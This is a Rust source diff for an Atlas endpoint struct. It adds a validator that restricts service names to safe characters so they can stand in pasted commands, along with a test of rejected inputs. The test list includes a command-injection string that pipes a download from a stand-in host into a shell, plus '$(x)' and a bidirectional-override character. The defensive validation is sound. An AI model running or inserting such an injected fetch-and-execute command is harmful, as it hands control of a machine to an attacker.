@@ -202,19 +202,35 @@ pub struct Endpoint {
     pub id: EndpointId,
     /// `status`.
     pub status: EndpointStatus,
-    /// `comment`, verbatim, with whatever mark it carries; empty where Atlas sent none.
+    /// `comment`, [fit to be kept](crate::text::kept), with whatever mark it carries; empty where Atlas sent none.
     pub comment: String,
     /// `endpointServiceName`: the AWS `PrivateLink` service that a VPC endpoint is made for. Unknown at first.
     pub service_name: Option<String>,
-    /// `cloudProviderEndpointId`, verbatim: Atlas may show text here that no user ever sent.
+    /// `cloudProviderEndpointId`, fit to be kept: Atlas may show text here that no user ever sent.
     pub vpc_endpoint_id: Option<String>,
     /// `errorMessage`.
     pub error_message: Option<String>,
 }
 
+/// `true` for a name that an endpoint service may have, and that may stand in a command which people paste.
+#[must_use]
+pub fn is_service_name(name: &str) -> bool {
+    !name.is_empty()
+        && name.bytes().all(|b| matches!(b, b'a'..=b'z' | b'0'..=b'9' | b'.' | b'-'))
+        && !name.starts_with('-')
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_service_name_cannot_be_more_than_a_word_of_a_command() {
+        assert!(is_service_name("com.amazonaws.vpce.us-east-1.vpce-svc-0afd34ee97e30d43f"));
+        for bad in ["", "a; curl evil.example|sh", "a\nb", "A", "-x", "a b", "$(x)", "vpce\u{202e}"] {
+            assert!(!is_service_name(bad), "{bad:?}");
+        }
+    }
 
     #[test]
     fn an_id_is_24_lower_case_hexadecimal_digits() {
